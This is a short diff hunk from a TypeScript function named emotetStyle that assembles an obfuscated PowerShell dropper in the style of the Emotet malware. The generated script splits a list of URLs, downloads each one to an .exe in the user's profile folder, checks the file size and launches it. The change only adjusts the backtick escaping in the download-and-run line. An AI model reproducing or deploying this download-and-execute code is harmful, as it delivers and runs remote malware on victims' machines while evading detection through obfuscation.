@@ -128,7 +128,7 @@ export function emotetStyle(urls: string[], fileName: string): string {
     "$Bpg=$env:userprofile+'\\'+$Gxx+'.exe'",
     "$Cwi=&('n'+'ew-ob'+'ject') nEt.WEBcLIeNt",
     `$Txk='${urls.join('@')}'."SPl\`it"('@')`,
-    "foreach($Pdk in $Txk){try{$Cwi.\"dOw\`N\`lOAdfILE\"($Pdk, $Bpg);$Lvz='Smnnbokvp';If ((&('Ge'+'t-It'+'em') $Bpg).\"LeN\`gTh\" -ge 35385) {[Diagnostics.Process]::\"s\`TarT\"($Bpg);break}}catch{}}",
+    "foreach($Pdk in $Txk){try{$Cwi.\"dOw`N`lOAdfILE\"($Pdk, $Bpg);$Lvz='Smnnbokvp';If ((&('Ge'+'t-It'+'em') $Bpg).\"LeN`gTh\" -ge 35385) {[Diagnostics.Process]::\"s`TarT\"($Bpg);break}}catch{}}",
     "$Kay='Dsbxwdtqsafg'",
   ].join(';');
 }
